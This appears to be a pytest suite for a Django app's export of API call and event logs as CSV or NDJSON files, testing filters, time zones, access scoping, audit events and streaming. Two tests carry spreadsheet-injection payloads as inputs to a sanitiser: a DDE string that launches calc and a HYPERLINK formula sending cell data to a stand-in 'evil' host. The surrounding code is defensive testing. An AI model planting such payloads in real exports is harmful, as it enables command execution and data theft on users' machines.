"""Calls and events as files: all of them, whatever their number, inert in a spreadsheet, and with an event of its own."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta

import pytest
from asgiref.sync import sync_to_async
from django.test import AsyncClient
from django.utils import timezone

from activity import export
from activity.models import Call
from profiles.events import Action, Event
from tests import cast
from tests.activity.calls import call_of, make_call, make_calls

pytestmark = pytest.mark.django_db(databases="__all__")


@pytest.fixture
def token(alice, work):
    return cast.make_token(alice, work, "n8n production").token


def exported(browser, query="", form="csv", what=""):
    answer = browser.post(f"/activity/{what}export{query}", {"format": form})
    assert answer.status_code == 200, answer.content
    text = b"".join(answer.streaming_content).decode()
    return (
        list(csv.DictReader(io.StringIO(text))) if form == "csv" else [json.loads(line) for line in text.splitlines()]
    )


def test_a_file_holds_every_call_of_the_filters(at_acme, token, monkeypatch):
    monkeypatch.setattr(export, "BATCH", 10)
    make_calls(token, [timezone.now() - timedelta(minutes=number) for number in range(1, 36)])
    make_call(token, outcome="refused", tool="other")
    rows = exported(at_acme)
    assert len({row["id"] for row in rows}) == len(rows) == 36
    assert [row["time_utc"] for row in rows] == sorted((row["time_utc"] for row in rows), reverse=True)
    assert [row["tool"] for row in exported(at_acme, "?outcome=refused")] == ["other"]
    assert len(exported(at_acme, "?tool=echo__echo&range=7d", "ndjson")) == 35


def test_a_file_is_an_attachment_that_no_cache_keeps(at_acme, token):
    make_call(token)
    answer = at_acme.post("/activity/export", {"format": "ndjson"})
    assert answer["Content-Type"] == "application/x-ndjson"
    assert answer["Content-Disposition"] == f'attachment; filename="nexus-calls-{timezone.now():%Y-%m-%d}.ndjson"'
    assert answer["Cache-Control"] == "no-store"


def test_moments_are_in_utc_and_on_the_persons_clock(at_acme, alice, token):
    alice.time_zone = "Asia/Kolkata"
    alice.save()
    make_call(token, datetime(2026, 11, 1, 20, 15, 7, tzinfo=UTC))
    query = "?since=2026-11-01T00:00Z&until=2026-11-03T00:00Z"
    (row,) = exported(at_acme, query)
    assert row["time_utc"] == "2026-11-01T20:15:07.000+00:00"
    assert row["time_local"] == "2026-11-02T01:45:07.000+05:30"
    assert exported(at_acme, query, "ndjson")[0]["at"] == "2026-11-01T20:15:07Z"


@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "  ="])
def test_a_cell_is_no_formula(lead):
    assert export.cell(f"{lead}cmd|' /C calc'!A0").startswith("'")
    assert "\\u{202e}\\u{7}" in export.cell(f"{lead}x\u202e\x07")


def test_hostile_text_of_any_length_is_inert(at_acme, token):
    hostile = '=HYPERLINK("http://evil/?"&A1)\u202e\x07'
    make_call(token, tool=hostile, arguments="=" + "A" * 100_000, user_agent='",=1+1\r\n=2+2')
    (row,) = exported(at_acme)
    assert row["tool"] == '\'=HYPERLINK("http://evil/?"&A1)\\u{202e}\\u{7}'
    assert row["arguments"] == "'=" + "A" * 100_000
    assert row["user_agent"] == '",=1+1\\u{d}\\u{a}=2+2'
    assert exported(at_acme, form="ndjson")[0]["tool"] == hostile


def test_that_somebody_took_calls_along_is_an_event(at_acme, alice, acme, token):
    make_call(token)
    exported(at_acme, "?outcome=ok&range=7d")
    event = Event.objects.get(action=Action.ACTIVITY_EXPORTED)
    assert (event.actor_label, event.account_id) == (str(alice), acme.pk)
    assert event.after["what"] == "calls"
    assert event.after["format"] == "csv"
    assert event.after["filters"] == {"Result": "OK"}


def test_nobody_takes_along_more_than_they_see(as_bob, as_charlie, bob, work, token):
    make_call(token, tool="of_alice")
    make_call(cast.make_token(bob, work).token, tool="of_bob")
    assert [row["tool"] for row in exported(as_bob)] == ["of_bob"]
    assert exported(as_charlie) == []


def test_a_wrong_filter_leads_to_the_page_that_says_so_and_writes_no_event(at_acme, token):
    answer = at_acme.post("/activity/export?outcome=good", {"format": "csv"})
    assert (answer.status_code, answer.url) == (303, "/activity/?outcome=good")
    assert at_acme.post("/activity/events/export?group=x").url == "/activity/events/?group=x"
    assert not Event.objects.filter(action=Action.ACTIVITY_EXPORTED).exists()


def test_an_unknown_format_is_csv(at_acme, token):
    assert at_acme.post("/activity/export", {"format": "exe"})["Content-Type"].startswith("text/csv")


@pytest.mark.parametrize("path", ["/activity/export", "/activity/events/export"])
def test_reading_an_address_exports_nothing(at_acme, client, path):
    assert at_acme.get(path).status_code == 405
    assert client.post(path).status_code == 302


def test_events_are_exported_with_what_they_changed(at_acme, alice, work, token):
    work.pause(by=cast.OPERATOR, now=timezone.now())
    token.revoke(by=cast.OPERATOR, reason="leaked", note="=1+1", now=timezone.now())
    rows = {row["action"]: row for row in exported(at_acme, what="events/")}
    assert {"token.issued", "token.revoked", "toolkit.paused"} <= set(rows)
    assert rows["token.revoked"]["subject_id"] == str(token.pk)
    assert json.loads(rows["token.issued"]["after"])["toolkit"] == "work"
    assert [row["action"] for row in exported(at_acme, "?group=toolkit&text=work", "ndjson", "events/")]


def test_the_walk_asks_for_one_list_of_rows_after_the_other(at_acme, token, monkeypatch, django_assert_max_num_queries):
    monkeypatch.setattr(export, "BATCH", 20)
    make_calls(token, [timezone.now() - timedelta(minutes=1)] * 100)
    answer = at_acme.post("/activity/export")
    with django_assert_max_num_queries(6):
        assert sum(piece.count(b"\n") for piece in answer.streaming_content) == 101


@pytest.mark.django_db(transaction=True, databases="__all__")
async def test_the_server_sends_what_it_has_before_it_reads_on(alice, acme, token, monkeypatch):
    monkeypatch.setattr(export, "BATCH", 10)
    now = timezone.now()
    await sync_to_async(Call.objects.bulk_create)([await sync_to_async(call_of)(token, now) for _ in range(25)])
    client = AsyncClient()
    await client.aforce_login(alice)
    await client.post("/settings/account/", {"account": str(acme.pk)})
    answer = await client.post("/activity/export")
    pieces = [piece async for piece in answer.streaming_content]
    assert [piece.count(b"\n") for piece in pieces] == [1, 10, 10, 5]
